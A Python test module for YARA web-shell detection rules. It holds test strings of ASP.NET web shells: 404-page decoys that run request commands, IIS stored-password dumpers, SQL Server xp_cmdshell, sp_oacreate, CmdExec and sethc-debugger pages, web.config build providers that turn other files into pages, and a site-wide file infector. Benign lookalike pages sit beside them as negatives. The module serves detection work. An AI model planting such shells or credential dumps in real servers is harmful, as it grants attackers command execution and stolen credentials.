"""Rule and kept findings from the twelfth unseen collection, shells as defenders met them (issue 14, helper
X14).

On first sight the own rules found all three shells of the collection (BENCHMARKS.md, "Unseen shells, twelfth
collection"), but one of them - MITRE CTID's re-build of OilRig's TwoFace page as Exchange's /EWS/contact.aspx -
only through the behaviour analysis: no YARA rule of ours fired. Its disguise is a family trait met in several
intrusions (TwoFace, APT34's HighShell, the "404 input shell" of Operation TaskMasters): the page shows the
server's own "not found" error page while its code runs commands for the right request.
``data/rules/decoy_error_pages.yar`` carries that shape; the pages below reproduce it in C#, JScript and VB and
in a handler, next to the ordinary pages closest to it (custom error pages that copy the stock wording, a page
borrowing one phrase for its own message, a help page quoting the stock page). A second rule,
``data/rules/iis_credentials.yar``, carries a capability of the collection's sunue file manager (and of
ASPXSpy's "IIS Spy") that nothing of ours saw when it stands alone in a page, probed after the first-sight run:
reading the passwords IIS stores for anonymous access, virtual directories and application pool identities
(metabase, Microsoft.Web.Administration, appcmd); its ordinary neighbours are a site list, provisioning pages
that set those identities and a help page quoting the command. A third rule, ``data/rules/sql_os_commands.yar``,
carries the database pages of the same file managers (sunue, and the JK1986 backdoor read beside it): T-SQL that
runs or plants an operating-system command (EXEC xp_cmdshell, sp_oacreate 'wscript.shell', a CmdExec job step,
an Image File Execution Options debugger), which nothing of ours found as a page of its own; its neighbours are
DBA pages that read or switch off the xp_cmdshell setting, a T-SQL job step and a help page. A fourth rule,
``data/rules/config_build_providers.yar``, comes from a probe read after the collection (a defender's TRR0000 lab,
a source earlier collections used, so not counted): a web.config registering PageBuildProvider for an extension
outside the behaviour analysis' list of static ones (.info there) so that such files run as pages, found by
nothing before; its neighbours are the framework's standard providers, a site serving .html as pages, an
application's own build provider and a help page quoting the setting. A last group keeps
found the shapes of this collection that one check alone found, and TwoFace's upload of base64 request text to a
request-named file in %TEMP% through a FileStream (found since A3's 5d754fc, written on this collection's
request) and the JK1986 button appending a TextBox's text to every file of the application (site-infector since
A3's 8ada341, the second request). All pages were written for these tests: nothing is compiled or run, commands
and keys are placeholders, and none is a copy of a real shell.
"""

from __future__ import annotations

from .rule_tables import Page, rule_tables, sink_found_test

YSOD_404 = (
    "<html><head><title>The resource cannot be found.</title></head><body>\n"
    "<span><H1>Server Error in '/EWS' Application.<hr width=100% size=1 color=silver></H1>\n"
    "<h2> <i>The resource cannot be found.</i> </h2></span>\n"
    "<b> Description:</b> HTTP 404. The resource you are looking for (or one of its dependencies) could have"
    " been removed, had its name changed, or is temporarily unavailable.<br><br>\n"
    "<b> Requested URL: </b>/EWS/contact.aspx<br><br>\n"
)
IIS_404 = (
    '<html><head><title>404 - File or directory not found.</title></head><body>\n<div id="header">'
    '<h1>Server Error</h1></div>\n<div id="content"><fieldset><h2>404 - File or directory not found.</h2>\n'
    "<h3>The resource you are looking for might have been removed, had its name changed, or is temporarily"
    " unavailable.</h3></fieldset></div>\n"
)
IIS6_404 = (
    "<html><head><title>The page cannot be found</title></head><body>\n<h1>The page cannot be found</h1>\n"
    "The page you are looking for might have been removed.<hr><p>HTTP Error 404 - File or directory not"
    " found.<br>Internet Information Services (IIS)</p>\n"
)

# --- pages dressed as the stock "not found" page that run what the request says ---------------------
DECOYS: list[Page] = [
    (
        "cs-aspnet-404-decoy-executor-helper",
        ".aspx",
        '<%@ Page Language="C#" ValidateRequest="false" %>\n<%@ Import Namespace="System.Diagnostics" %>\n'
        '<script runat="server">\n'
        "protected void Page_Load(object s, EventArgs e) {\n"
        '  if (Request.HttpMethod == "POST" && Request.Form["x"] != null)\n'
        '    Output.InnerText = Run(Request.Form["x"], Request.Form["y"]);\n}\n'
        "private string Run(string program, string line) {\n"
        "  var i = new ProcessStartInfo();\n"
        '  i.FileName = program; i.Arguments = (program == "cmd.exe" ? "/c " : "") + line;\n'
        "  i.UseShellExecute = false; i.RedirectStandardOutput = true; i.CreateNoWindow = true;\n"
        "  return Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>\n"
        + YSOD_404
        + '<pre runat="server" id="Output"/></body></html>\n',
    ),
    (
        "jscript-iis-404-decoy-eval",
        ".aspx",
        '<%@ Page Language="JScript" %>\n'
        + IIS_404
        + '<% if (Request.Form["k"] != null) { eval(Request.Form["k"], "unsafe"); } %>\n</body></html>\n',
    ),
    (
        "vb-iis6-decoy-wscript-exec",
        ".aspx",
        '<%@ Page Language="VB" AspCompat="true" %>\n' + IIS6_404 + '<%\nIf Request.Form("c") <> "" Then\n'
        '  Dim sh As Object = Server.CreateObject("WScript.Shell")\n'
        '  Response.Write(sh.Exec("cmd /c " & Request.Form("c")).StdOut.ReadAll())\nEnd If\n%>\n</body></html>\n',
    ),
    (
        "cs-handler-decoy-assembly-loader",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System; using System.Web;\n'
        "public class H : IHttpHandler {\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        '    if (c.Request.Form["p"] == null) {\n'
        "      c.Response.StatusCode = 404;\n"
        "      c.Response.Write(\"<html><body><H1>Server Error in '/' Application.</H1>"
        '<h2><i>The resource cannot be found.</i></h2></body></html>");\n      return;\n    }\n'
        '    var a = System.Reflection.Assembly.Load(Convert.FromBase64String(c.Request.Form["p"]));\n'
        '    a.CreateInstance("Placeholder.Entry").Equals(c);\n  }\n'
        "  public bool IsReusable { get { return false; } }\n}\n",
    ),
    (
        "cs-detailed-404-decoy-process-start",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string q = Request.QueryString["q"];\n'
        '  if (q != null) Response.Write(System.Diagnostics.Process.Start("cmd.exe", "/c " + q).Id);\n}\n'
        "</script>\n<html><head><title>IIS 10.0 Detailed Error - 404.0 - Not Found</title></head><body>\n"
        "<h3>HTTP Error 404.0 - Not Found</h3>\n"
        "<h4>The resource you are looking for has been removed, had its name changed, or is temporarily"
        " unavailable.</h4>\n</body></html>\n",
    ),
]

# --- the ordinary pages closest to them: must stay silent --------------------------------------------
DECOY_ORDINARY: list[Page] = [
    (
        "custom-404-logs-the-missing-path",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n  Response.StatusCode = 404;\n"
        '  System.IO.File.AppendAllText(Server.MapPath("~/App_Data/missing.log"),\n'
        '    DateTime.UtcNow.ToString("o") + " " + Request.QueryString["aspxerrorpath"] + "\\r\\n");\n}\n'
        "</script>\n" + YSOD_404 + "</body></html>\n",
    ),
    (
        "custom-404-mails-the-admin",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Mail" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  new SmtpClient("mail.example.invalid").Send("web@example.invalid", "admin@example.invalid",\n'
        '    "404", "Missing: " + Request.QueryString["aspxerrorpath"]);\n}\n</script>\n'
        + IIS_404
        + "</body></html>\n",
    ),
    (
        "custom-404-transfers-to-search",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'string missing = Request.QueryString["aspxerrorpath"];\n'
        'if (!string.IsNullOrEmpty(missing)) Server.Transfer("~/search.aspx?q=" + Server.UrlEncode(missing));\n'
        "%>\n" + YSOD_404 + "</body></html>\n",
    ),
    (
        "export-page-borrows-one-phrase",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  int id; if (!int.TryParse(Request.QueryString["id"], out id)) { Msg.Text = "The resource cannot be'
        ' found."; return; }\n'
        '  var i = new System.Diagnostics.ProcessStartInfo(Server.MapPath("~/bin/pdfexport.exe"), id.ToString());\n'
        "  i.UseShellExecute = false; System.Diagnostics.Process.Start(i).WaitForExit(30000);\n}\n"
        '</script>\n<html><body><asp:Label ID="Msg" runat="server" /></body></html>\n',
    ),
    (
        "help-page-quotes-the-stock-page",
        ".aspx",
        '<%@ Page Language="C#" Title="Why do I see an error page?" %>\n<html><body>\n'
        "<p>When a file is missing IIS answers with its own page:</p>\n<blockquote>"
        + IIS_404
        + "</blockquote>\n<p>A web shell can hide behind a copy of it, for example:</p>\n"
        '<pre>Process.Start("cmd.exe", "/c " + Request.Form["c"]);</pre>\n</body></html>\n',
    ),
    (
        "error-page-reports-the-exception",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "  Exception ex = Server.GetLastError();\n"
        '  Details.Text = Server.HtmlEncode(Request.Url + ": " + (ex == null ? "" : ex.Message));\n}\n'
        "</script>\n" + YSOD_404 + '<asp:Literal ID="Details" runat="server" /></body></html>\n',
    ),
]

# --- pages reading the credentials IIS stores (sunue's and ASPXSpy's "IIS" pages, on their own) ----------
MB_ASM = (
    '<%@ Assembly Name="System.DirectoryServices, Version=2.0.0.0, Culture=neutral, '
    'PublicKeyToken=B03F5F7F11D50A3A" %>\n<%@ Import Namespace="System.DirectoryServices" %>\n'
)
IIS_CREDENTIALS: list[Page] = [
    (
        "cs-metabase-anonymous-user-dump",
        ".aspx",
        '<%@ Page Language="C#" %>\n'
        + MB_ASM
        + '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  foreach (DirectoryEntry site in new DirectoryEntry("IIS://localhost/W3SVC").Children) {\n'
        '    if (site.SchemaClassName != "IIsWebServer") continue;\n'
        '    DirectoryEntry root = site.Children.Find("root", "IIsWebVirtualDir");\n'
        '    Response.Write(site.Name + " | " + root.Properties["AnonymousUserName"].Value + " | "\n'
        '      + root.Properties["AnonymousUserPass"].Value + "<br>");\n  }\n}\n</script>\n',
    ),
    (
        "cs-metabase-app-pool-identity-into-list",
        ".aspx",
        '<%@ Page Language="C#" %>\n'
        + MB_ASM
        + '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  foreach (DirectoryEntry pool in new DirectoryEntry("IIS://localhost/W3SVC/AppPools").Children)\n'
        '    Pools.Items.Add(pool.Name + ":" + pool.Properties["WAMUserName"][0] + ":" + pool.Properties["WAMUserPass"][0]);\n'
        '}\n</script>\n<html><body><asp:ListBox ID="Pools" runat="server" /></body></html>\n',
    ),
    (
        "cs-servermanager-pool-password",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Assembly Name="Microsoft.Web.Administration, Version=7.0.0.0, '
        'Culture=neutral, PublicKeyToken=31bf3856ad364e35" %>\n<%\n'
        "using (var m = new Microsoft.Web.Administration.ServerManager())\n"
        "  foreach (var pool in m.ApplicationPools)\n"
        '    Response.Write(pool.Name + "\\t" + pool.ProcessModel.UserName + "\\t" + pool.ProcessModel.Password + "\\n");\n%>\n',
    ),
    (
        "vb-appcmd-pool-passwords",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim i As New System.Diagnostics.ProcessStartInfo("C:\\Windows\\System32\\inetsrv\\appcmd.exe",'
        ' "list apppool /text:processModel.password")\n'
        "i.UseShellExecute = False : i.RedirectStandardOutput = True\n"
        "Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd())\n%>\n",
    ),
    (
        "jscript-metabase-unc-password",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\n'
        'var root = new System.DirectoryServices.DirectoryEntry("IIS://localhost/W3SVC/1/ROOT");\n'
        "for (var e = root.Children.GetEnumerator(); e.MoveNext();) {\n"
        "  var v = e.Current;\n"
        '  Response.Write(v.Name + " " + v.Properties["UNCUserName"].Value + " " + v.Properties["UNCPassword"].Value + "\\n");\n'
        "}\n%>\n",
    ),
]

IIS_CREDENTIALS_ORDINARY: list[Page] = [
    (
        "site-list-admin-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n'
        + MB_ASM
        + '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  foreach (DirectoryEntry site in new DirectoryEntry("IIS://localhost/W3SVC").Children)\n'
        '    if (site.SchemaClassName == "IIsWebServer") Sites.Items.Add(site.Properties["ServerComment"].Value + " (" + site.Name + ")");\n'
        '}\n</script>\n<html><body><asp:ListBox ID="Sites" runat="server" /></body></html>\n',
    ),
    (
        "provisioning-sets-anonymous-user",
        ".aspx",
        '<%@ Page Language="C#" %>\n'
        + MB_ASM
        + '<script runat="server">\nvoid Apply_Click(object s, EventArgs e) {\n'
        '  var root = new DirectoryEntry("IIS://localhost/W3SVC/1/ROOT");\n'
        '  root.Properties["AnonymousUserName"].Value = ConfigurationManager.AppSettings["anonUser"];\n'
        '  root.Properties["AnonymousUserPass"].Value = ConfigurationManager.AppSettings["anonPass"];\n'
        '  root.CommitChanges();\n  Status.Text = "Saved.";\n}\n</script>\n'
        '<html><body><form runat="server"><asp:Button ID="Apply" runat="server" OnClick="Apply_Click" Text="Apply" />'
        '<asp:Label ID="Status" runat="server" /></form></body></html>\n',
    ),
    (
        "provisioning-sets-pool-identity",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        "using (var m = new Microsoft.Web.Administration.ServerManager()) {\n"
        '  var pool = m.ApplicationPools["Reports"];\n'
        '  pool.ProcessModel.UserName = ConfigurationManager.AppSettings["svcUser"];\n'
        '  pool.ProcessModel.Password = ConfigurationManager.AppSettings["svcPass"];\n'
        '  m.CommitChanges();\n  Response.Write("Pool updated.");\n}\n%>\n',
    ),
    (
        "appcmd-pool-states",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var i = new System.Diagnostics.ProcessStartInfo(@"C:\\Windows\\System32\\inetsrv\\appcmd.exe",'
        ' "list apppool /text:name");\n'
        "i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
        "Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());\n%>\n",
    ),
    (
        "help-page-quotes-appcmd",
        ".aspx",
        '<%@ Page Language="C#" Title="Auditing application pools" %>\n<html><body>\n'
        "<p>Intruders read pool passwords with <code>appcmd list apppool /text:processModel.password</code>;"
        " the page ApplicationPool.ProcessModel.Password; shows them with Response.Write in their tools.</p>\n"
        "</body></html>\n",
    ),
]

# --- pages making SQL Server run or plant a command (sunue's and JK1986's database pages, on their own) ---
SQL_FORM = (
    '<form runat="server"><asp:TextBox ID="Login" runat="server" /><asp:TextBox ID="Secret" runat="server" />'
    '<asp:TextBox ID="Line" runat="server" /><asp:Button ID="Go" runat="server" OnClick="Go_Click" Text="Go" />'
    "</form>\n"
)
SQL_OS: list[Page] = [
    (
        "cs-xp-cmdshell-from-textbox",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
        "protected void Go_Click(object s, EventArgs e) {\n"
        '  var conn = new SqlConnection("server=.;User ID=" + Login.Text + ";Password=" + Secret.Text); conn.Open();\n'
        '  var r = new SqlCommand("exec master..xp_cmdshell \'" + Line.Text + "\'", conn).ExecuteReader();\n'
        '  while (r.Read()) Response.Write(r.GetValue(0) + "\\n");\n}\n</script>\n' + SQL_FORM,
    ),
    (
        "vb-xp-cmdshell-oledb-request",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim cn As New System.Data.OleDb.OleDbConnection("Provider=SQLOLEDB;Data Source=.;User ID=placeholder;Password=placeholder")\n'
        "cn.Open()\n"
        'Dim c As New System.Data.OleDb.OleDbCommand("EXEC xp_cmdshell \'" & Request.Form("q") & "\'", cn)\n'
        "c.ExecuteNonQuery()\n%>\n",
    ),
    (
        "cs-sp-oacreate-wscript-run",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
        "protected void Go_Click(object s, EventArgs e) {\n"
        '  var conn = new SqlConnection("server=.;User ID=" + Login.Text + ";Password=" + Secret.Text); conn.Open();\n'
        "  string q = \"declare @o int exec sp_oacreate 'wscript.shell',@o out \" +\n"
        "    \"exec sp_oamethod @o,'run',NULL,'cmd /c \" + Line.Text + \"',0,true\";\n"
        "  new SqlCommand(q, conn).ExecuteNonQuery();\n}\n</script>\n" + SQL_FORM,
    ),
    (
        "cs-ifeo-sethc-debugger-via-xp-regwrite",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
        "protected void Go_Click(object s, EventArgs e) {\n"
        '  var conn = new SqlConnection("server=.;User ID=" + Login.Text + ";Password=" + Secret.Text); conn.Open();\n'
        "  var c = conn.CreateCommand();\n"
        "  c.CommandText = \"exec master.dbo.xp_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\\\\Microsoft\\\\Windows NT\\\\\"\n"
        "    + \"CurrentVersion\\\\Image File Execution Options\\\\sethc.exe','debugger','REG_SZ','placeholder.exe'\";\n"
        "  c.ExecuteNonQuery();\n}\n</script>\n" + SQL_FORM,
    ),
    (
        "cs-agent-cmdexec-jobstep",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
        "protected void Go_Click(object s, EventArgs e) {\n"
        '  var conn = new SqlConnection("server=.;database=msdb;User ID=" + Login.Text + ";Password=" + Secret.Text);\n'
        "  conn.Open();\n"
        "  new SqlCommand(\"EXEC sp_add_job @job_name='j1'; EXEC sp_add_jobstep @job_name='j1', @step_name='s', @subsystem='CmdExec', @command='\"\n"
        "    + Line.Text.Replace(\"'\", \"''\") + \"'; EXEC sp_add_jobserver @job_name='j1'; EXEC sp_start_job @job_name='j1'\", conn).ExecuteNonQuery();\n"
        "}\n</script>\n" + SQL_FORM,
    ),
]

SQL_OS_ORDINARY: list[Page] = [
    (
        "dba-page-reads-xp-cmdshell-setting",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  using (var conn = new SqlConnection(ConfigurationManager.ConnectionStrings["dba"].ConnectionString)) {\n'
        "    conn.Open();\n"
        "    var v = new SqlCommand(\"SELECT value_in_use FROM sys.configurations WHERE name = 'xp_cmdshell'\", conn).ExecuteScalar();\n"
        '    State.Text = Convert.ToInt32(v) == 1 ? "xp_cmdshell is ON - switch it off" : "xp_cmdshell is off";\n  }\n}\n'
        '</script>\n<html><body><asp:Label ID="State" runat="server" /></body></html>\n',
    ),
    (
        "dba-page-switches-xp-cmdshell-off",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
        "protected void Off_Click(object s, EventArgs e) {\n"
        '  using (var conn = new SqlConnection(ConfigurationManager.ConnectionStrings["dba"].ConnectionString)) {\n'
        "    conn.Open();\n"
        "    new SqlCommand(\"EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 0; RECONFIGURE;\", conn).ExecuteNonQuery();\n"
        "  }\n}\n</script>\n",
    ),
    (
        "maintenance-job-with-tsql-step",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\n'
        "protected void Schedule_Click(object s, EventArgs e) {\n"
        '  using (var conn = new SqlConnection(ConfigurationManager.ConnectionStrings["msdb"].ConnectionString)) {\n'
        "    conn.Open();\n"
        "    new SqlCommand(\"EXEC sp_add_jobstep @job_name='nightly', @step_name='reindex', @subsystem='TSQL', @command='EXEC dbo.Reindex'\", conn).ExecuteNonQuery();\n"
        "  }\n}\n</script>\n",
    ),
    (
        "help-page-quotes-xp-cmdshell",
        ".aspx",
        '<%@ Page Language="C#" Title="Hardening SQL Server" %>\n<html><body>\n'
        "<p>Attackers with sa rights run <code>EXEC master..xp_cmdshell 'whoami'</code> through new SqlCommand(...)"
        " .ExecuteNonQuery(); keep it disabled.</p>\n</body></html>\n",
    ),
]


# --- configuration registering PageBuildProvider for an extension that is not a page's -------------------
# Shape of the TRR0000 lab's "Procedure C" web.configs (McBeer89/Tired-Labs-McBeer-Repo, a defender's
# recreation of web shells hidden through web.config): a build provider and a handler make .info or .txt
# files run as pages. Extensions, names and paths here are placeholders.
def _config(build: str, handlers: str = "", bom: bool = False, decl: bool = True) -> str:
    head = '<?xml version="1.0" encoding="UTF-8"?>\n' if decl else ""
    return (
        ("\ufeff" if bom else "")
        + head
        + '<configuration>\n  <system.web>\n    <compilation debug="false">\n      <buildProviders>\n'
        + build
        + "      </buildProviders>\n    </compilation>\n  </system.web>\n"
        + (
            "  <system.webServer>\n    <handlers>\n" + handlers + "    </handlers>\n  </system.webServer>\n"
            if handlers
            else ""
        )
        + "</configuration>\n"
    )


CONFIG_PAGES: list[Page] = [
    (
        "web-custom-extension-as-page",
        ".config",
        _config(
            '        <add extension=".stat" type="System.Web.Compilation.PageBuildProvider" />\n',
            '      <add name="StatAsPage" path="*.stat" verb="*" type="System.Web.UI.PageHandlerFactory"'
            ' resourceType="Unspecified" preCondition="integratedMode" />\n',
        ),
    ),
    (
        "web-text-as-page-type-first-bom",
        ".config",
        _config(
            "        <add type='System.Web.Compilation.PageBuildProvider' extension='.log' />\n",
            '      <add name="LogAsPage" path="*.log" verb="GET,POST" type="System.Web.UI.PageHandlerFactory" />\n',
            bom=True,
        ),
    ),
    (
        "web-aspx-kept-and-image-added-no-declaration",
        ".config",
        _config(
            '        <add extension=".aspx" type="System.Web.Compilation.PageBuildProvider" />\n'
            '        <add extension=".jpg" type="System.Web.Compilation.PageBuildProvider" />\n',
            decl=False,
        ),
    ),
]

CONFIG_ORDINARY: list[Page] = [
    (
        "root-web-config-standard-providers",
        ".config",
        _config(
            '        <add extension=".aspx" type="System.Web.Compilation.PageBuildProvider" />\n'
            '        <add extension=".ascx" type="System.Web.Compilation.UserControlBuildProvider" />\n'
            '        <add extension=".master" type="System.Web.Compilation.MasterPageBuildProvider" />\n'
            '        <add extension=".resx" type="System.Web.Compilation.ResXBuildProvider" />\n'
            '        <add extension=".svc" type="System.ServiceModel.Activation.ServiceBuildProvider, '
            'System.ServiceModel.Activation" />\n'
        ),
    ),
    (
        "site-serving-html-as-pages",
        ".config",
        _config(
            '        <add extension=".html" type="System.Web.Compilation.PageBuildProvider" />\n',
            '      <add name="HtmlAsPage" path="*.html" verb="GET" type="System.Web.UI.PageHandlerFactory" />\n',
        ),
    ),
    (
        "application-own-template-provider",
        ".config",
        _config(
            '        <add extension=".tmpl" type="Example.Web.Templates.TemplateBuildProvider, Example.Web" />\n'
        ),
    ),
    (
        "help-page-quoting-the-setting",
        ".aspx",
        '<%@ Page Language="C#" Title="Hardening IIS" %>\n<html><body>\n<p>Look for a web.config with'
        ' <code>&lt;buildProviders&gt;&lt;add extension=".info" type="System.Web.Compilation.PageBuildProvider"'
        ' /&gt;</code>: .info files then run as pages.</p>\n<pre><buildProviders><add extension=".info"'
        ' type="System.Web.Compilation.PageBuildProvider" /></buildProviders></pre>\n</body></html>\n',
    ),
]

CASES = (
    ("EXT_WEBSHELL_Decoy_Error_Page_With_Command", DECOYS, DECOY_ORDINARY),
    ("EXT_WEBSHELL_IIS_Stored_Credential_Dump", IIS_CREDENTIALS, IIS_CREDENTIALS_ORDINARY),
    ("EXT_WEBSHELL_SQL_Server_OS_Command", SQL_OS, SQL_OS_ORDINARY),
    ("EXT_WEBSHELL_Config_Extension_Compiled_As_Page", CONFIG_PAGES, CONFIG_ORDINARY),
)

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(
    CASES, log_url="/EWS/contact.aspx"
)


# --- shapes of this collection that one check alone found on first sight: kept found -------------------
BEHAVIOUR_KEPT: list[tuple[str, str, str, str]] = [
    (
        "cs-executor-and-command-through-async-helper",
        ".aspx",
        "process",
        '<%@ Page Language="C#" Async="true" %>\n<%@ Import Namespace="System.Diagnostics" %>\n'
        '<script runat="server">\n'
        "protected void Page_Load(object s, EventArgs e) {\n"
        '  if (Request.RequestType == "POST") Handle();\n}\n'
        "private async void Handle() {\n"
        '  string line = Request.Form.Get("l"); string prog = Request.Form.Get("m");\n'
        "  if (!string.IsNullOrEmpty(line) && !string.IsNullOrEmpty(prog)) {\n"
        "    Process p = Build(prog, line);\n"
        "    Out.InnerText = await p.StandardOutput.ReadToEndAsync();\n  }\n}\n"
        "private Process Build(string exe, string args) {\n"
        "  Process p = new Process(); p.StartInfo = new ProcessStartInfo();\n"
        '  p.StartInfo.FileName = exe; p.StartInfo.Arguments = (exe == "cmd.exe" ? "/c " : "") + args;\n'
        "  p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false;\n"
        "  p.Start(); return p;\n}\n</script>\n"
        '<html><body><pre runat="server" id="Out"/></body></html>\n',
    ),
    (
        "cs-base64-upload-to-temp-request-name",
        ".aspx",
        "file-write-content",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "protected void Page_Load(object s, EventArgs e) {\n"
        '  string body = Request.Form.Get("b"); string name = Request.Form.Get("n");\n'
        "  if (body != null && name != null) {\n"
        '    byte[] d = Convert.FromBase64String(body.Replace(" ", "+"));\n'
        "    string path = System.IO.Path.Combine(System.IO.Path.GetTempPath(), name);\n"
        "    using (var w = new System.IO.FileStream(path, System.IO.FileMode.Create)) { w.Write(d, 0, d.Length); }\n"
        "  }\n}\n</script>\n",
    ),
    (
        "cs-site-wide-append-from-textbox",
        ".aspx",
        "site-infector",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void AppendAll(string dir) {\n"
        "  foreach (string f in System.IO.Directory.GetFileSystemEntries(dir)) {\n"
        "    if (System.IO.Directory.Exists(f)) { AppendAll(f); continue; }\n"
        "    System.IO.File.WriteAllText(f, System.IO.File.ReadAllText(f) + Extra.Text.Trim());\n  }\n}\n"
        "protected void Go_Click(object s, EventArgs e) { AppendAll(Request.PhysicalApplicationPath); }\n</script>\n"
        '<form runat="server"><asp:TextBox ID="Extra" runat="server" TextMode="MultiLine" />'
        '<asp:Button ID="Go" runat="server" OnClick="Go_Click" Text="Go" /></form>\n',
    ),
]


test_behaviour_shape_stays_found = sink_found_test(BEHAVIOUR_KEPT)
